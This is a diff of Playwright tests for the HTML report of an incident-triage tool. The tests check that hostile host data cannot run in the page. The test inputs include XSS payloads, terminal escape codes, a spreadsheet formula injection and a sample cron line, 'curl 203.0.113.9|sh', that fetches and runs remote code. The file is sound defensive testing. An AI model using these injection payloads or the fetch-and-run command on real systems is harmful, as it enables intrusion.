@@ -16,6 +16,7 @@ import pytest
 api = pytest.importorskip("playwright.sync_api", reason="the Python package playwright is not installed")
 
 from ansible_collections.csirt.linux_triage.plugins.plugin_utils._analysis import _schema  # noqa: E402
+from ansible_collections.csirt.linux_triage.plugins.plugin_utils._case import file_name  # noqa: E402
 from ansible_collections.csirt.linux_triage.plugins.plugin_utils._report._html import write_report  # noqa: E402
 from ansible_collections.csirt.linux_triage.tests.unit.plugins.plugin_utils.report_helpers import (  # noqa: E402
     RUN, event, finding, host, make_case, proof, ranking,
@@ -24,9 +25,12 @@ from ansible_collections.csirt.linux_triage.tests.unit.plugins.plugin_utils.repo
 PROGRAM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
 LAPTOP = {"width": 1366, "height": 768}
 FINDINGS, EVENTS = 5_000, 50_000
+RUNS = "window.ran=1;alert(1)"
 HOSTILE = (
-    "<script>window.ran=1;alert(1)</script>", "\"><img src=x onerror=\"window.ran=1;alert(1)\">", "</script><script>window.ran=1;alert(1)</script>", "<!--<script>",
-    "javascript:window.ran=1", "\x1b[31mred\x1b]0;title\x07", "\u202egnp.exe\u200f\u200b", "nul\x00nul", "=cmd()|'/c calc'!A0", "\u2028\u2029", "a" * 1_000_000,
+    f"<script>{RUNS}</script>", f"\"><img src=x onerror=\"{RUNS}\">", f"</script><script>{RUNS}</script>", "<!--<script>",
+    f"javascript:{RUNS}", "\x1b[31mred\x1b]0;title\x07", "\u202egnp.exe\u200f\u200b", "nul\x00nul", "=cmd()|'/c calc'!A0",
+    "\u2028\u2029",
+    "a" * 100_000,
 )
 
 
@@ -49,7 +53,11 @@ class Visit:
         self.page.on("console", lambda message: self.troubles.append(f"console: {message.text}"))
         self.page.on("pageerror", lambda error: self.troubles.append(f"error: {error}"))
         self.page.on("dialog", self._dialog)
-        self.page.on("request", lambda request: request.is_navigation_request() or self.troubles.append(f"request: {request.url[:200]}"))
+        self.page.on("request", self._request)
+
+    def _request(self, request):
+        if not (request.is_navigation_request() and request.url.startswith("file:")):
+            self.troubles.append(f"request: {request.url[:200]}")
 
     def _dialog(self, dialog):
         self.troubles.append(f"dialog: {dialog.message}")
@@ -89,19 +97,25 @@ def fleet(tmp_path_factory):
         tmp_path_factory.mktemp("fleet"), hosts=[host(), host("db01"), host("app01", complete=False, missing=["50-file_listing"])],
         ranking=[ranking(), ranking("db01", 2), ranking("app01", 3, verdict="incomplete", lines=["What: nothing in what came home"])],
         findings=[
-            finding("1"), finding("2", rule="cron", title="A cron line that fetches and runs", severity="high", attack=["T1053.003", "T1105"],
-                                  subject="/etc/cron.d/clean", first_seen="2026-11-20 02:00:00"),
-            *(finding(f"many{number}", rule="many", title="Many of a kind", severity="low", attack=[], subject=f"thing number {number}") for number in range(60)),
-            finding("3", "db01", rule="rare_key", title="A key that no other host has", severity="medium", attack=["T1098.004"], subject="SHA256:abc"),
+            finding("1"),
+            finding("2", rule="cron", title="A cron line that fetches and runs", severity="high", attack=["T1053.003", "T1105"],
+                    subject="/etc/cron.d/clean", first_seen="2026-11-20 02:00:00"),
+            *(finding(f"many{number}", rule="many", title="Many of a kind", severity="low", attack=[], subject=f"thing {number}")
+              for number in range(60)),
+            finding("3", "db01", rule="rare_key", title="A key that no other host has", severity="medium", attack=["T1098.004"],
+                    subject="SHA256:abc"),
         ],
         timeline=[
             *(event(f"2026-11-{day:02} {hour:02}:00:00", f"/srv/file-{day}-{hour}") for day in range(10, 25) for hour in range(24)),
             event("2026-11-20 01:02:03", "/var/www/html/x.php", time_desc="born"),
-            event("2026-11-20 01:00:00", "login of mallory from 198.51.100.7", source="logins", path=None, user_name="mallory"), event("1985-10-26", "/old"),
+            event("2026-11-20 01:00:00", "login of mallory from 198.51.100.7", source="logins", path=None, user_name="mallory"),
+            event("1985-10-26", "/old"),
         ],
-        users=[{**of_web01, "source": "passwd", "user": f"user{number:03}", "uid": number, "shell": "/bin/sh" if number % 2 else None} for number in range(120)],
+        users=[{**of_web01, "user": f"user{number:03}", "uid": number, "shell": "/bin/sh" if number % 2 else None}
+               for number in range(120)],
         persistence=[{**of_web01, "mechanism": "cron", "command": "curl 203.0.113.9|sh", "path": "/etc/cron.d/clean"}],
-        stack=[{"kind": "authorized_key", "kind_group": "debian 12", "value": "SHA256:abc", "hosts_with": 1, "hosts_of": 3, "host": "db01"}],
+        stack=[{"kind": "authorized_key", "kind_group": "debian 12", "value": "SHA256:abc", "hosts_with": 1, "hosts_of": 3,
+                "host": "db01"}],
         items=[{"host": "app01", "run": RUN, "part": "20-accounts", "state": "denied", "path": "/root/x", "reason": "EACCES"}],
     )
 
@@ -167,14 +181,14 @@ def test_findings_are_filtered_by_severity_and_technique(visit, fleet):
 def test_long_groups_unfold(visit, fleet):
     page = visit.open(on_host(fleet))
     group = page.locator("article.group[data-severity=low]")
-    assert group.locator("li").count() == 20
+    assert group.locator("li").count() == 8
     group.locator("button.more").click()
     assert group.locator("li").count() == 60 and not group.locator("button.more").is_visible()
 
 
 def test_a_link_to_a_folded_finding_shows_it(visit, fleet):
     page = visit.open(fleet)
-    page.locator("[data-table=all_findings] input[type=search]").fill("number 59")
+    page.locator("[data-table=all_findings] input[type=search]").fill("thing 59")
     api.expect(shown_rows(page, "all_findings")).to_have_count(1)
     page.locator("[data-table=all_findings] tbody tr td a", has_text="open").click()
     page.wait_for_selector("html.ready")
@@ -310,37 +324,58 @@ def test_it_prints_black_on_white(visit, fleet):
     assert page.pdf(format="A4").startswith(b"%PDF")
 
 
-@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text[:30]))
-def test_nothing_of_a_host_runs(visit, tmp_path, text):
-    """The text stands in every column of text of every table, and is the host's name."""
+def of_host(text):
+    """Rows of a host of this name, with the text in every column of text of every table."""
     tables = {
         name: [{"host": text, "run": RUN, **{column.in_case: text for column in table.columns if column.kind in ("text", "any")}}]
         for name, table in _schema.tables().items() if table.made_by != "analysis"
     }
-    tables |= {
+    return tables | {
         "hosts": [host(text, archive=text, os=text, kernel=text, kind=text, missing=[text], sha256=text)],
-        "ranking": [ranking(text, verdict=text, lines=[text, f"Why: {text}"], weakened=json.dumps([text]), parts=json.dumps([{"score": 1, "text": text}]))],
-        "findings": [
-            finding(text, text, rule=text, title=text, attack=[text], subject=text, summary=text, why=text, harmless=text, next=text,
-                    evidence=json.dumps([proof(archive=text, member=text, path=text, table=text)])),
-        ],
+        "ranking": [ranking(text, verdict=text, lines=[text, f"Why: {text}"], weakened=json.dumps([text]),
+                            parts=json.dumps([{"finding": text, "score": 1, "text": text}]))],
+        "findings": [finding(text, text, rule=text, title=text, attack=[text], subject=text, summary=text, why=text, harmless=text,
+                             next=text, evidence=json.dumps([proof(archive=text, member=text, path=text, table=text)]))],
         "stack": [{"kind": text, "kind_group": text, "value": text, "hosts_with": 1, "hosts_of": 2, "host": text}],
-        "coverage": [{"host": text, "part": text, "state": text, "items": 1}], "load_problems": [{"host": text, "tbl": text, "problem": text, "n": 1}],
+        "coverage": [{"host": text, "part": text, "state": text, "items": 1}],
+        "load_problems": [{"host": text, "tbl": text, "problem": text, "n": 1}],
         "timeline": [event("2026-11-20", text, text, source=text, time_desc=text, user_name=text)],
     }
-    index = report(tmp_path, **tables)
-    page = visit.open(index)
-    assert page.locator("img, iframe, object, embed").count() == 0
-    assert page.evaluate("document.documentElement.scrollWidth") <= LAPTOP["width"]
-    page.locator("h1 a").click()
-    page.wait_for_selector("html.ready")
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    tables = {}
+    for text in HOSTILE:
+        for name, rows in of_host(text).items():
+            tables.setdefault(name, []).extend(rows)
+    return report(tmp_path_factory.mktemp("hostile"), **tables)
+
+
+def nothing_came_in(page):
     assert page.locator("img, iframe, object, embed").count() == 0
     assert page.locator("script:not([type])").count() == 1
     assert page.evaluate("document.documentElement.scrollWidth") <= LAPTOP["width"]
+
+
+def test_nothing_of_hosts_runs_in_the_page_of_the_fleet(visit, hostile):
+    page = visit.open(hostile)
+    nothing_came_in(page)
+    assert page.locator("[data-block]").count() == len(HOSTILE)
+    assert shown_rows(page, "stack").count() == len(HOSTILE)
+    assert page.get_by_text(HOSTILE[0]).first.is_visible() and page.get_by_text("\\xe2\\x80\\xaegnp.exe").first.is_visible()
+    page.locator("#search").fill("onerror")
+    api.expect(page.locator("[data-block]:visible")).to_have_count(1)
+
+
+@pytest.mark.parametrize("number", range(len(HOSTILE)), ids=lambda number: ascii(HOSTILE[number][:30]))
+def test_nothing_of_a_host_runs_in_its_page(visit, hostile, number):
+    page = visit.open(hostile.parent / "hosts" / f"{file_name(HOSTILE[number])}.html")
+    nothing_came_in(page)
     assert page.locator("[data-table=users] tbody tr").count() == 1
     for button in page.locator("#findings button.copy").all():
         button.click()
-    page.locator("#search").fill(text[:20].replace("\x00", ""))
+    page.locator("#search").fill(HOSTILE[number][:20].replace("\0", ""))
     page.locator("[data-table=users] th button").first.click()
     page.pdf()
 
@@ -349,12 +384,18 @@ def test_thousands_of_rows(visit, tmp_path, record_property, capsys):
     """Figures are printed, not asserted: the machine may be busy."""
     case = make_case(tmp_path, hosts=[host()], ranking=[ranking()])
     case.connection.execute(f"""
-        INSERT INTO findings SELECT 'f' || i, 'web01', '{RUN}', 'rule' || i % 50, 'Rule number ' || i % 50, ['critical', 'high', 'medium', 'low'][1 + i % 50 % 4], 1, ['T1505.003'],
-               '/srv/www/file-' || i, 'was seen', 'why', 'harmless', 'next', '[{json.dumps(proof())}]', TIMESTAMP_NS '2026-11-20 01:02:03' FROM range({FINDINGS}) t(i)
+        INSERT INTO findings
+        SELECT 'f' || i, 'web01', '{RUN}', 'rule' || i % 50, 'Rule number ' || i % 50,
+               ['critical', 'high', 'medium', 'low'][1 + i % 50 % 4], 1, ['T1505.003'], '/srv/www/file-' || i, 'was seen', 'why', 'harmless', 'next', '[{json.dumps(proof())}]',
+               TIMESTAMP_NS '2026-11-20 01:02:03'
+        FROM range({FINDINGS}) t(i)
     """)
     case.connection.execute(f"""
-        INSERT INTO timeline SELECT 'web01', '{RUN}', (TIMESTAMP '2026-10-20 00:00:00' + to_seconds(i * 61))::TIMESTAMP_NS, 'modified', ['files', 'logins', 'history'][1 + i % 3],
-               '/usr/share/doc/some-package/file-' || i, '/usr/share/doc/some-package/file-' || i, NULL, NULL FROM range({EVENTS}) t(i)
+        INSERT INTO timeline (host, run, time, source, time_desc, message, path)
+        SELECT 'web01', '{RUN}', (TIMESTAMP '2026-10-20 00:00:00' + to_seconds(i * 61))::TIMESTAMP_NS,
+               ['files', 'logins', 'history'][1 + i % 3], 'file: m.c.', '-rw-r--r-- 0 1234 /usr/share/doc/some-package/file-' || i,
+               '/usr/share/doc/some-package/file-' || i
+        FROM range({EVENTS}) t(i)
     """)
     begin = time.perf_counter()
     index = write_report(case, case.folder)
@@ -368,12 +409,14 @@ def test_thousands_of_rows(visit, tmp_path, record_property, capsys):
 
     page = visit.page
     measured("opened", lambda: visit.open(on_host(index)))
-    assert page.locator("article.group li").count() == 1000, "20 of each of 50 groups"
+    assert page.locator("article.group li").count() == 400, "8 of each of 50 groups"
     assert page.locator("nav a[href='#findings']").inner_text() == "Findings 5,000"
     measured("zoomed", lambda: drag(page, 0.4, 0.6))
-    measured("searched", lambda: (page.locator("#search").fill("file-4242 -file-42420"), page.wait_for_selector("nav a:has-text('Findings 1/')")))
+    measured("searched", lambda: (page.locator("#search").fill("file-4242 -file-42420"),
+                                  page.wait_for_selector("nav a:has-text('Findings 1/')")))
     api.expect(page.locator("nav a[href='#timeline']")).to_have_text("Timeline 10/50,000")
-    measured("searched again", lambda: (page.locator("#search").fill("file-1"), page.wait_for_selector("nav a:has-text('Timeline 11,111/')")))
+    measured("searched again", lambda: (page.locator("#search").fill("file-1"),
+                                        page.wait_for_selector("nav a:has-text('Timeline 11,111/')")))
     measured("sorted", lambda: page.locator("[data-table=timeline_rows] th button", has_text="message").click())
     figures["elements"] = page.evaluate("document.querySelectorAll('*').length")
     for name, value in figures.items():
